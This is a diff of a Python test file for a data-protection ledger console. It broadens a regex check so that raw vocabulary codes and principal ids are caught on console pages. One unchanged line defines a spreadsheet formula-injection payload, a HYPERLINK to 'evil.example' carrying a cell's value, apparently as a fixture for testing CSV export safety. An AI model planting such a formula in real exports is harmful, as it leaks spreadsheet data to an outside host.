@@ -35,7 +35,8 @@ NOW = datetime.now(UTC)
 NAME = "Ada Example"  # synthetic
 NHS = "9434765870"  # a synthetic NHS number with a valid check digit
 UNKNOWN = "sr_aaaaaaaaaaaaaaaaaaaaaaaaaa"
-CODE = re.compile(r"\b(?:sl|pd|dpv|eu-gdpr):[A-Za-z]")
+# A vocabulary code, or a principal's id where its key's name belongs.
+CODE = re.compile(r"\b(?:sl|pd|dpv|eu-gdpr|principal):[A-Za-z0-9]")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 
 
@@ -339,9 +340,12 @@ def test_csv_downloads_follow_the_pages_roles(demo: Demo, client: TestClient) ->
 
 # -- Plain words -----------------------------------------------------------------------
 def test_no_console_page_shows_a_vocabulary_code(demo: Demo, client: TestClient) -> None:
-    """On the demo ledger no page's text holds an sl:, pd:, dpv: or eu-gdpr: code."""
+    """On the demo ledger no page's text holds an sl:, pd:, dpv: or eu-gdpr: code, or a
+    principal:<id> (a restriction in force is read first, so its reasons name a reader)."""
     sign_in(client, demo.keys[Role.DPO])
     context = demo.service.reports()
+    standing = next(r for r in all_restrictions(context) if r.facts.lifted_at is None)
+    client.get(f"/console/restrictions/{standing.facts.reference or standing.facts.restriction_id}")
     restrictions = [r.facts.reference or r.facts.restriction_id for r in all_restrictions(context)]
     report = partner_report(demo.service.reports("partner"), demo.partner)
     pages = [
